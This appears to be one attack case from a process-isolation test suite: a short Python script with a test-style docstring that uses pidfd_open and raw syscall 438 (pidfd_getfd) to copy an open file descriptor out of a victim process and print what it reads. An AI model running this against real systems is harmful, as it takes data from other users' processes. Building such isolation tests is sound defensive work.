"""Copies an open descriptor out of a process of the person.

family: processes
arguments: {victim_pid} {victim_fd}
judge: loot kept
trace: pidfd_getfd, pidfd_open
"""

import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
process = os.pidfd_open(int(sys.argv[1]))
taken = libc.syscall(438, process, int(sys.argv[2]), 0)
if taken < 0:
    sys.exit(os.strerror(ctypes.get_errno()))
print(os.pread(taken, 64, 0).decode())
